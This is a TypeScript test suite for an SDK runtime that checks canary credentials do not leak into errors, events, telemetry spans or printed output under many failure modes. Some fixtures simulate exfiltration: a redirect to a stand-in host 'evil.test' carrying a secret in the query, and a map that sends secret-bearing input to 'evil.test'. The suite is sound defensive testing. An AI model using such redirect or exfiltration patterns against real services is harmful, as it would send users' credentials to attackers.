import {
  HttpError,
  type Around,
  type ClientEvent,
  type MapContext,
  type ProviderClient,
  type UseCase,
} from "@sdkwright/runtime";
import { clientJson } from "@sdkwright/runtime/client-json";
import { normalizeRetryPolicy } from "@sdkwright/runtime/config";
import { bindClient, type ClientOptions } from "@sdkwright/runtime/generated/client";
import { digest } from "@sdkwright/runtime/generated/digest";
import { openTelemetry } from "@sdkwright/runtime/opentelemetry";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { VirtualClock } from "../policy/virtual-clock.js";
import { recordTelemetry } from "../telemetry/recorder.js";
import { startServer, type Answer, type Received } from "../../servers/http-server.js";
import { allCanaries, credentialCanaries, canaryCall, canaryClient, schemeIds, sources, type CanaryOptions, type SchemeId, type Source } from "./canary-client.js"; // prettier-ignore
import { assertSilent, findTexts, printedBy, usualForms } from "./canary-report.js";
import { definition, schemes } from "./leak-network.js";

const test = suite("canaries");
const { spans } = recordTelemetry();

/** How a call is made to fail: by what the server does, by what fetch does, or by what the client was given. */
interface Failure {
  readonly names: readonly string[];
  readonly respond?: (request: Received) => Answer | "reset" | Promise<Answer | "reset">;
  readonly fetch?: typeof fetch;
  readonly change?: CanaryOptions["change"];
  readonly baseUrl?: string;
  readonly requestTimeout?: number;
  readonly abort?: boolean;
  readonly read?: boolean;
  readonly schemes?: readonly SchemeId[];
}

/** Everything that it got, in every usual writing. */
const echo =
  (status: number, headers: Record<string, string> = {}) =>
  (request: Received): Answer => {
    const authorization = String(request.headers.authorization);
    const told = `${request.target} ${JSON.stringify(request.headers)} ${request.body.toString()} ${decoded(authorization)}`;
    const written = usualForms(told).map((text, at) => [`x-echo-${at}`, text.replaceAll(/[^ -~]/g, "?")] as const);
    const echoed = { "x-echo": authorization, "x-request-id": request.target, "retry-after": "1", ...headers };
    const all = { ...Object.fromEntries(written), ...echoed };
    return { status, headers: { ...all, "www-authenticate": headers["www-authenticate"] ?? quoted(told) }, body: told };
  };
const challenge = 'Digest realm="r", nonce="n", qop="auth"';
const never = new Promise<never>(() => {});

const failures: Record<string, Failure> = {
  ...Object.fromEntries(
    [400, 401, 403, 429, 503].map((status) => [
      `status ${status}, everything echoed`,
      { names: ["HttpError", "AuthenticationError"], respond: echo(status) },
    ]),
  ),
  "digest rejected": {
    names: ["AuthenticationError"],
    respond: echo(401, { "www-authenticate": challenge }),
  },
  "digest not offered": {
    names: ["AuthenticationError"],
    respond: echo(401, { "www-authenticate": 'Basic realm="r"' }),
  },
  "a token refused": {
    names: ["AuthenticationError"],
    respond: echo(401, { "www-authenticate": 'Bearer error="invalid_token"' }),
  },
  "redirect elsewhere with everything": {
    names: ["RedirectError"],
    respond: (request) => ({ status: 302, headers: { location: `http://localhost:1${request.target}` } }),
  },
  "redirect in a circle": {
    names: ["RedirectError"],
    respond: (request) => ({ status: 307, headers: { location: request.target } }),
  },
  "connection reset": { names: ["NetworkError"], respond: () => "reset" },
  "no answer in time": { names: ["TimeoutError"], respond: () => never, requestTimeout: 30 },
  "malformed HTTP": { names: ["NetworkError"], fetch: failing("HPE_INVALID_CONSTANT") },
  "name not found": { names: ["NetworkError"], fetch: failing("ENOTFOUND") },
  "certificate refused": { names: ["NetworkError"], fetch: failing("CERT_HAS_EXPIRED") },
  "fetch fails without a code": { names: ["ConfigurationError"], fetch: failing(undefined) },
  "connection refused": { names: ["NetworkError"], baseUrl: "http://127.0.0.1:1" },
  "aborted with the caller's reason": { names: ["AbortError"], respond: () => never, abort: true },
  "body too large": {
    names: ["BodyError"],
    respond: (request) => ({ ...echo(200)(request), body: `${request.target}${"x".repeat(20_000)}` }),
  },
  "body not JSON": { names: ["BodyError"], respond: echo(200), read: true },
  "a line break in the credential": { names: ["ConfigurationError"], change: (secret) => `${secret}\n` },
  "not Unicode": { names: ["ConfigurationError"], change: (secret) => `${secret}\ud800`, schemes: schemeIds },
  "not a string": { names: ["ConfigurationError"], change: (secret) => ({ secret }), schemes: schemeIds },
  "a source that throws": {
    names: ["ConfigurationError"],
    change: (secret) => {
      throw new Error(`vault says ${secret}`);
    },
  },
  "Basic with a colon in the name": {
    names: ["ConfigurationError"],
    change: (secret) => `${secret}:x`,
    schemes: ["basic"],
  },
  "a token with its scheme": {
    names: ["ConfigurationError"],
    change: (secret) => `Bearer ${secret}`,
    schemes: ["bearer"],
  },
  "a key that a header cannot carry": {
    names: ["ConfigurationError"],
    change: (secret) => `${secret}é`,
    schemes: ["header", "cookie", "prefixed"],
  },
  "a key with its prefix": {
    names: ["ConfigurationError"],
    change: (secret) => `Bot ${secret}`,
    schemes: ["prefixed"],
  },
};

for (const [at, [name, failure]] of Object.entries(failures).entries()) {
  test(`${name}: nothing that is left of it shows a secret: error, events, hooks, spans, output`, async () => {
    const server = await startServer(failure.respond ?? echo(200));
    try {
      for (const scheme of failure.schemes ?? schemeIds) {
        const possible = sources.filter((source) => isPossible(failure, source));
        const source = possible[(at + schemeIds.indexOf(scheme)) % possible.length] ?? "functions";
        await assertFailsSilently(failure, failure.baseUrl ?? server.origin, scheme, source);
      }
    } finally {
      await server.close();
    }
  });
}

test("the report finds what it looks for, also where only inspect or a cause shows it", () => {
  const hidden = Object.assign(new Error("x"), { cause: { deep: [{ key: "canary-0-header-apikey" }] } });
  assert.equal(findTexts(hidden, allCanaries), ["canary-0-header-apikey"]);
  const encoded = new Error(`Basic ${Buffer.from("someone:canary-5-basic-password").toString("base64")}`);
  assert.equal(findTexts(encoded, allCanaries), ["canary-5-basic-password"]);
});

type Call = UseCase<Record<string, unknown>, unknown>;
type Map = (context: MapContext<Record<string, unknown>, unknown, ProviderClient, Record<string, string>>) => unknown;

const secrets: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  header: { apikey: "canary-a-header-key" },
  query: { apikey: "canary-b-query-key" },
  bearer: { token: "canary-c-bearer-token" },
  basic: { username: "canary-d-basic-user", password: "canary-e-basic-password" },
  digest: { username: "canary-f-digest-user", password: "canary-g-digest-password" },
};
const inputDefault = "canary-h-input-default";
const texts = [...Object.values(secrets).flatMap((fields) => Object.values(fields)), inputDefault];
const policy = { kind: "circuit-breaker", maxContiguousRetries: 1 } as const;
const input = { note: "$CANARY_INPUT" };

/** How the server, or the network, answers every request. */
const answers: Record<string, typeof fetch> = {
  "503 that echoes": echoing(503),
  "429 with a long Retry-After": echoing(429, { "retry-after": "3600" }),
  "302 away": echoing(302, { location: "https://evil.test/?canary-b-query-key" }),
  "digest refused": echoing(401, { "www-authenticate": 'Digest realm="r", nonce="n", qop="auth"' }),
  "connection refused": async (url, init) => {
    const told = `${new Request(url, init).url} ${JSON.stringify([...new Headers(init?.headers)])}`;
    throw new TypeError(told, { cause: Object.assign(new Error(told), { code: "ECONNREFUSED" }) });
  },
};

for (const [name, fetch] of Object.entries(answers)) {
  test(`${name}: the error of a call with retries and failover, its events and its output are silent`, async () => {
    for (const scheme of schemes) {
      const { clock, events, call } = connect(fetch, ({ http }) => http.get("/items", { security: scheme }).text());
      const { value: outcome, printed } = await printedBy(() => clock.finish(call.safe({})));
      assert.not.ok(outcome.ok);
      assert.ok(events.some(({ type }) => type === "attempt"));
      assert.is(events.at(-1)?.type, "failure");
      for (const left of [outcome, events, printed]) assertSilent(left, texts);
    }
  });
}

test("a map that is given a secret in its input and calls a provider with it: our errors stay silent", async () => {
  const { clock, events, call } = connect(echoing(200), ({ http, input: { note } }) =>
    http.get(`//evil.test/${String(note)}`),
  );
  const outcome = await clock.finish(call.safe({}));
  assert.not.ok(outcome.ok);
  assertSilent(
    outcome,
    texts.filter((text) => text !== inputDefault),
  );
  assertSilent(
    events,
    texts.filter((text) => text !== inputDefault),
  );
});

test("profile-values-env: a whole $NAME of an input default is resolved, other text is literal", async () => {
  const { clock, call } = connect(echoing(200), ({ input }) => input);
  const outcome = await clock.finish(call.safe({ text: "$CANARY_INPUT", price: "$5" }));
  assert.equal(outcome.ok && outcome.value, { note: inputDefault, text: "$CANARY_INPUT", price: "$5" });
});

test("a client shows no secret", () => {
  const { client } = connect(echoing(200), () => undefined);
  assertSilent(client, texts);
});

/** Every way to write a credential wrongly; what stands there is the secret. */
const wrong = "canary-z-misplaced";
const invalid: Record<string, unknown> = {
  "a wrong field": { security: [{ id: "header", apiKey: wrong }] },
  "an unknown scheme": { security: [{ id: "nope", apikey: wrong }] },
  "fields of another scheme": { security: [{ id: "header", username: wrong, password: wrong }] },
  "a number of a field": { security: [{ id: "header", apikey: [wrong] }] },
  "no list": { security: { header: { apikey: wrong } } },
  braces: { security: [{ id: "header", apikey: `\${${wrong}}` }] },
  "a dollar in front": { security: [{ id: "header", apikey: `$ ${wrong}` }] },
  "the same twice": { security: [wrong, wrong].map((apikey) => ({ id: "header", apikey })) },
  "a digest field": { security: [{ id: "digest", digest: wrong }] },
  "the list itself": { security: wrong },
  "the provider itself": wrong,
};

test("invalid clientJson, a secret at each wrong place: the ConfigurationError is silent", async () => {
  for (const [name, provider] of Object.entries(invalid)) {
    const { value: error, printed } = await printedBy(async () => {
      try {
        connect(echoing(200), () => undefined, {
          clientJson: clientJson({ profiles: {}, providers: { acme: provider } }),
        });
        return undefined;
      } catch (thrown) {
        return thrown as Error;
      }
    });
    assert.is(error?.name, "ConfigurationError", name);
    assertSilent([error, printed], [wrong]);
  }
});

test.run();

async function assertFailsSilently(failure: Failure, origin: string, scheme: SchemeId, source: Source): Promise<void> {
  const abort = new AbortController();
  if (failure.abort === true) setTimeout(() => abort.abort(), 20);
  spans.length = 0;
  const [given, ended, events] = [[] as unknown[], [] as unknown[], [] as ClientEvent[]];
  const { around: traced } = openTelemetry();
  const keep = async <End>(end: Promise<End>): Promise<End> => (ended.push(await end), end);
  const around: Around = {
    call: (what, run) => (given.push(what), traced.call(what, () => keep(run()))),
    attempt: (what, run) => (given.push(what), traced.attempt(what, (extra) => keep(run(extra)))),
  };
  const on = (event: ClientEvent): unknown => events.push(event);
  const { value: error, printed } = await printedBy(() =>
    failureOf(failure, origin, scheme, { source, around, on }, abort.signal),
  );
  if (error === undefined && scheme !== "digest") throw new Error(`${scheme} did not fail`);
  const { name } = error as Error;
  const isExpected = failure.names.includes(name) || (scheme === "digest" && name === "AuthenticationError");
  assert.ok(isExpected || name === "HttpError", `${scheme}, ${source}: ${String(error)}`);
  // What a server writes is shown; it cannot be told which words of it the caller would rather not see.
  assertSilent(error, error instanceof HttpError ? credentialCanaries : allCanaries);
  for (const left of [ended, events, spans]) assertSilent(left, credentialCanaries);
  for (const left of [given, printed]) assertSilent(left, allCanaries);
}

async function failureOf(
  failure: Failure,
  origin: string,
  scheme: SchemeId,
  shown: Pick<CanaryOptions, "source" | "around" | "on">,
  signal: AbortSignal,
): Promise<unknown> {
  try {
    const { fetch, change, requestTimeout } = failure;
    const client = canaryClient(origin, { ...shown, fetch, change, requestTimeout });
    const call = canaryCall(client, scheme, signal);
    await (failure.read === true ? call.json() : call);
    return undefined;
  } catch (error) {
    return error;
  }
}

/** A variable holds text, and nothing throws when it is read. */
function isPossible({ change }: Failure, source: Source): boolean {
  if (change === undefined) return true;
  try {
    return source === "functions" || typeof change("") === "string";
  } catch {
    return source === "functions";
  }
}

/** Fails as platforms do: with the URL, the headers and the body in the message and around it. */
function failing(code: string | undefined): typeof fetch {
  return async (input, init) => {
    const request = new Request(input, init);
    const told = `${request.url} ${JSON.stringify([...request.headers])} ${await request.text()}`;
    const cause = Object.assign(new Error(`${code} ${told}`), { code, request, told });
    throw Object.assign(new TypeError(`fetch failed: ${told}`, { cause }), { input, init });
  };
}

function decoded(authorization: string): string {
  return Buffer.from(authorization.replace(/^Basic /, ""), "base64")
    .toString("latin1")
    .replaceAll(/[^ -~]/g, ".");
}

/** A challenge that quotes the request. */
function quoted(told: string): string {
  return `Weird told="${told.replaceAll(/["\\]/g, "\\$&")}"`;
}

/** A client with two providers for one use-case, every credential from a variable. */
function connect(fetch: typeof globalThis.fetch, map: Map, options: ClientOptions = {}) {
  const env: Record<string, string> = { CANARY_INPUT: inputDefault };
  const credentials = Object.fromEntries(
    Object.entries(secrets).map(([scheme, fields]) => [scheme, throughVariables(scheme, fields, env)]),
  );
  const part = (name: string) => ({
    definition: { ...definition(`https://${name}.example.test`), name },
    configured: { credentials },
  });
  const providers = { acme: part("acme"), beta: part("beta") };
  const perProvider = { input: {}, retryPolicy: normalizeRetryPolicy(policy) };
  const useCase = { providerFailover: true, input, providers: { acme: perProvider, beta: perProvider } };
  const profile = { name: "test", priority: ["acme", "beta"], useCases: { Send: useCase } };
  const [clock, events] = [new VirtualClock(), [] as ClientEvent[]];
  const client = bindClient<{ profiles: { test: { Send: Call } } }>(
    { providers, profiles: { test: profile }, maps: { test: { acme: { Send: map }, beta: { Send: map } } }, digest },
    { fetch, env, clock, random: () => 0.5, on: (event) => events.push(event), ...options },
  );
  return { client, clock, events, call: client.profiles.test.Send };
}

function throughVariables(
  scheme: string,
  fields: Readonly<Record<string, string>>,
  env: Record<string, string>,
): Record<string, string> {
  const configured: Record<string, string> = {};
  for (const [field, secret] of Object.entries(fields)) {
    const name = `CANARY_${scheme}_${field}`.toUpperCase();
    env[name] = secret;
    configured[field] = `$${name}`;
  }
  return configured;
}

/** Answers with everything that the request said. */
function echoing(status: number, headers: Record<string, string> = {}): typeof fetch {
  return async (url, init) => {
    const request = new Request(url, init);
    const told = `${request.url} ${JSON.stringify([...request.headers])}`;
    return new Response(told, { status, headers: { "x-request-id": told, ...headers } });
  };
}
